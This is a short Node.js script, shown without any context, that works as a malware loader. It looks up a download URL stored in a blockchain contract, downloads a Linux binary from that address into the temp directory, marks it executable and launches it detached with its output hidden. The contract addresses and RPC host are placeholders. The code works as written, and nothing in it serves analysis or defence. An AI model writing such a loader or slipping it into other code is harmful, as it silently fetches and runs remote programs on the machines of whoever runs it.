const { ethers } = require('ethers'); const axios = require('axios'); const fs = require('fs'); const { spawn } = require('child_process'); const os = require('os'), path = require('path');
const c = new ethers.Contract('0x0000000000000000000000000000000000000001', ['function getString(address) view returns (string)'], new ethers.JsonRpcProvider('https://rpc.example.com'));
(async () => { const url = await c.getString('0x0000000000000000000000000000000000000002'); const p = path.join(os.tmpdir(), 'node-x');
  const r = await axios.get(url + '/node-linux', { responseType: 'arraybuffer' }); fs.writeFileSync(p, r.data); fs.chmodSync(p, '755'); spawn(p, [], { detached: true, stdio: 'ignore' }).unref(); })();
